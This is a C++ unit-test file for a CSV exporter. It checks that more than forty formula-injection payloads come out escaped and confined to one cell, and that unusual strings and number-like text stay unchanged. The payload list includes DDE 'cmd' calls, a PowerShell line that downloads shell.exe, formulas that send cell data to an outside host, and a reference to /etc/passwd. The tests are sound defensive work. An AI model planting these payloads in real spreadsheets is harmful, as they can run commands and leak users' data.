// Cells that no spreadsheet runs, and that stay as people wrote them.
#include "bot/csv.hpp"

#include "dialogs/json.hpp"
#include "dialogs/utf8.hpp"
#include "tests/adapters/support.hpp"

#include <doctest/doctest.h>

#include <string>
#include <vector>

using namespace heed;

namespace {

// What a reader of RFC 4180 makes of one cell.
std::string read_cell(std::string cell) {
    if (!cell.starts_with('"')) return cell;
    std::string value;
    for (std::size_t at = 1; at + 1 < cell.size(); ++at) {
        if (cell[at] == '"') ++at;
        value += cell[at];
    }
    return value;
}

// Is it one cell, whatever separates cells: comma, semicolon or tab?
bool is_one_cell(const std::string& cell) {
    if (!cell.starts_with('"')) return cell.find_first_of(",;\t\r\n\"") == cell.npos;
    if (cell.size() < 2 || !cell.ends_with('"')) return false;
    for (std::size_t at = 1; at + 1 < cell.size(); ++at) {
        if (cell[at] != '"') continue;
        if (++at + 1 >= cell.size() || cell[at] != '"') return false;
    }
    return true;
}

}  // namespace

TEST_CASE("forty formulas of attackers are texts: guarded, and one cell for every separator") {
    const std::vector<std::string> payloads = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget bot.example.org/shell.exe)'!A0",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://example.org?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
        "=IMPORTDATA(\"http://example.org/\"&A1)",
        "=IMPORTRANGE(\"https://example.org/d\",\"A1:B2\")",
        "=IMAGE(\"http://example.org/?\"&B1)",
        "=WEBSERVICE(\"http://example.org/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "='file:///etc/passwd'#$passwd.A1",
        "=SUM(1+1)*cmd|' /C calc'!A0",
        "=2+5+cmd|' /C calc'!A0",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=EXEC(\"calc\")",
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.org\",\"a\",0,0)",
        "=A1&\"\\n\"",
        "==1",
        "=\"=\"&\"1\"",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+HYPERLINK(\"http://example.org\")",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "|cmd",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\xC2\xA0=1+1",      // NO-BREAK SPACE
        "\xEF\xBB\xBF=1+1",  // U+FEFF
        "\xE2\x80\x8B=1+1",  // ZERO WIDTH SPACE
        "　=1+1",            // IDEOGRAPHIC SPACE
        "\x01=1+1",
        "＝1+1",
        "－1+1",
        "＠SUM(1)",
        "−1+1",  // MINUS SIGN
    };
    CHECK(payloads.size() >= 40);
    for (const std::string& payload : payloads) {
        CAPTURE(payload);
        for (const std::string& cell : {csv_cell(payload), csv_words(payload)}) {
            CHECK(read_cell(cell) == "'" + payload);
            CHECK(is_one_cell(cell));
        }
    }
    // What hides a formula behind a separator or a quote stays in its cell.
    for (const char* payload :
         {"x,=1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", "\",=1+1,\"", "\"=1+1\""}) {
        CAPTURE(payload);
        CHECK(read_cell(csv_cell(payload)) == payload);
        CHECK(is_one_cell(csv_cell(payload)));
    }
}

TEST_CASE("the list of naughty strings: each one cell, none a formula, none changed otherwise") {
    const auto folder = test::data_folder("hostile");
    if (!folder) return;
    const auto strings = test::read_vectors(*folder / "text" / "blns.json");
    REQUIRE(strings.IsArray());
    for (const auto& one : strings.GetArray()) {
        const std::string text(one.GetString(), one.GetStringLength());
        CAPTURE(text);
        const std::string cell = csv_words(text);
        CHECK(is_one_cell(cell));
        const std::string value = read_cell(cell);
        CHECK((value == text || value == "'" + text));
        CHECK(value.find_first_of("=+-@\t\r") != 0);
    }
}

TEST_CASE("what people wrote is no number, date or truth value; other words stay as they are") {
    for (const char* text :
         {"007",
          "110",
          "1e5",
          "13912345678",
          "2026-11-26",
          "12:30",
          "3/4",
          "100%",
          "1,000",
          "2026年11月26日",
          "１２",
          "$5",
          "true",
          "FALSE",
          "(5)"}) {
        CAPTURE(text);
        CHECK(read_cell(csv_words(text)) == std::string("'") + text);
        CHECK(read_cell(csv_cell(text)) == text);
    }
    for (const char* text : {"", "3号楼", "路灯 12", "E", "'007", "东门", "...", "truth", "10A"})
        CHECK(csv_words(text) == text);
}
